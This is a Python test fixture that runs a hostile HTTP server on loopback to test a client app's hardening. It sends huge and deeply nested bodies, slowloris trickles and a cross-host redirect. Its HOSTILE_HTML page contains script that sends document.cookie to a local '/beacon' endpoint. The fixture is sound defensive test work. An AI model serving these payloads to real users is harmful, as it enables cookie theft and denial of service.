"""A hostile "phone bank server" on loopback, for the app-side hardening tests.

It speaks real HTTP/1.1 over a real socket (http.server), answers `/api/v1/health`
honestly so the client trusts it, and then replies to chosen paths with what a
broken or malicious server could send: a huge body, deeply nested JSON, the wrong
types, a slowloris trickle, a redirect to another host, a script full of HTML and
JavaScript. Every request it sees is recorded, so a test can prove the client never
fetched anything it was lured to (`requests_for("/beacon")`).

    with HostileServer() as hostile:
        hostile.on("POST /api/v1/results", Behaviour.TRICKLE)
        ...
"""

from __future__ import annotations

import enum
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

HEALTH = {"status": "ok", "version": "0.1.0", "api": 1}


class Behaviour(enum.Enum):
    HUGE = "huge"  # 200 OK, JSON content type, 64 MiB of body (streamed, no length)
    HUGE_DECLARED = "huge_declared"  # Content-Length: 1 GiB, then a trickle of it
    NESTED = "nested"  # 200 OK, valid JSON nested 100,000 levels deep
    WRONG_TYPES = "wrong_types"  # 200 OK, the right keys with the wrong types
    TRICKLE = "trickle"  # headers at once, then one byte of body every 0.5 s, forever
    TRICKLE_HEADERS = "trickle_headers"  # the status line and headers one byte at a time
    REDIRECT = "redirect"  # 307 to another host (which records what it receives)
    HTML = "html"  # 200 OK text/html: a page full of script
    REPLY = "reply"  # 200 OK with the JSON given to `on(..., reply=...)`


@dataclass(frozen=True)
class Seen:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


HOSTILE_HTML = (
    "<!DOCTYPE html><html><head><script>fetch('http://127.0.0.1:{port}/beacon?c='"
    "+document.cookie)</script><meta http-equiv='refresh' content='0;url=http://127.0.0.1:"
    "{port}/beacon'></head><body onload=\"location='http://127.0.0.1:{port}/beacon'\">"
    "<img src='http://127.0.0.1:{port}/beacon.png'><h1>Free Wi-Fi</h1></body></html>"
)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, owner: HostileServer) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.owner = owner


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _handle(self) -> None:
        owner = self.server.owner
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        owner.record(Seen(self.command, self.path, dict(self.headers.items()), body))
        path = self.path.split("?")[0]
        if path == "/api/v1/health" and not owner.rule_for(self.command, path):
            self._json(200, HEALTH)
            return
        rule = owner.rule_for(self.command, path)
        if rule is None:
            self._json(404, {"error": {"code": "not_found", "message": "Not found."}})
            return
        behaviour, reply = rule
        getattr(self, "_" + behaviour.value)(reply)

    do_GET = do_POST = do_PUT = do_DELETE = _handle

    # -- replies ---------------------------------------------------------------------------
    def _json(self, status: int, data: Any) -> None:
        raw = json.dumps(data).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def _head(self, ctype: str = "application/json", length: int | None = None) -> None:
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        if length is not None:
            self.send_header("Content-Length", str(length))
        else:
            self.send_header("Connection", "close")
            self.close_connection = True
        self.end_headers()

    def _stream(self, chunks: Iterator[bytes], pause: float = 0.0) -> None:
        try:
            for chunk in chunks:
                if self.server.owner.stopping.is_set():
                    return
                self.wfile.write(chunk)
                self.wfile.flush()
                if pause:
                    time.sleep(pause)
        except OSError:  # the client gave up: that is the point
            self.close_connection = True

    def _huge(self, _reply: Any) -> None:
        self._head()
        block = b'{"campaigns": [' + b'{"id": 1, "name": "' + b"x" * 65_000 + b'"},'
        self._stream(block for _ in range(1024))  # ~64 MiB

    def _huge_declared(self, _reply: Any) -> None:
        self._head(length=1 << 30)
        self._stream((b" " * 1024 for _ in range(1 << 20)), pause=0.05)

    def _nested(self, _reply: Any) -> None:
        depth = 100_000
        raw = b'{"campaigns": ' + b"[" * depth + b"]" * depth + b"}"
        self._head(length=len(raw))
        self._stream(iter([raw]))

    def _wrong_types(self, reply: Any) -> None:
        self._json(200, reply)

    _reply = _wrong_types

    def _trickle(self, _reply: Any) -> None:
        self._head(length=1 << 20)
        self._stream((b" " for _ in range(1 << 20)), pause=0.5)

    def _trickle_headers(self, _reply: Any) -> None:
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n" + b"X-Pad: " + b"a" * 10_000
        self._stream((head[i : i + 1] for i in range(len(head))), pause=0.5)
        self.close_connection = True

    def _redirect(self, _reply: Any) -> None:
        target = f"http://localhost:{self.server.owner.port}/stolen{self.path}"
        self.send_response(307)
        self.send_header("Location", target)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def _html(self, _reply: Any) -> None:
        raw = HOSTILE_HTML.format(port=self.server.owner.port).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)


class HostileServer:
    """The server in a daemon thread; `on()` picks what a "METHOD /path" gets."""

    def __init__(self) -> None:
        self._server = _Server(self)
        self.port = int(self._server.server_address[1])
        self._rules: dict[str, tuple[Behaviour, Any]] = {}
        self._lock = threading.Lock()
        self.seen: list[Seen] = []
        self.stopping = threading.Event()
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def on(self, route: str, behaviour: Behaviour, reply: Any = None) -> None:
        """`route` is "METHOD /api/v1/path" (exact)."""
        with self._lock:
            self._rules[route] = (behaviour, reply)

    def clear(self) -> None:
        with self._lock:
            self._rules.clear()

    def rule_for(self, method: str, path: str) -> tuple[Behaviour, Any] | None:
        with self._lock:
            return self._rules.get(f"{method} {path}")

    def record(self, seen: Seen) -> None:
        with self._lock:
            self.seen.append(seen)

    def requests_for(self, prefix: str) -> list[Seen]:
        with self._lock:
            return [s for s in self.seen if s.path.startswith(prefix)]

    def start(self) -> HostileServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self.stopping.set()
        self._server.shutdown()
        self._server.server_close()

    def __enter__(self) -> HostileServer:
        return self.start()

    def __exit__(self, *_exc: object) -> None:
        self.stop()
